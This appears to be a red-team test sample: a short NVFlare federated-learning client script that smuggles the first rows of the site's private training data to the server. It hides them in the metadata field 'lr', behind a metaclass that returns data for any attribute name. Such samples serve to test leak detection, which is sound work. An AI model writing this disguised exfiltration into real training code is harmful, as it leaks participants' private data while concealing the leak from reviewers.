"""Client API trainer (red team 6): A registry class whose metaclass __getattr__ hands out rows for any class attribute."""
import numpy as np
import nvflare.client as flare

x = np.load("/data/site/x.npy")


class Registry(type):
    def __getattr__(cls, name):
        return x[:3].tolist()


class Defaults(metaclass=Registry):
    """Default hyper-parameters, looked up by name."""


flare.init()
while flare.is_running():
    model = flare.receive()
    flare.send(flare.FLModel(params=model.params, meta={"lr": Defaults.learning_rate}))
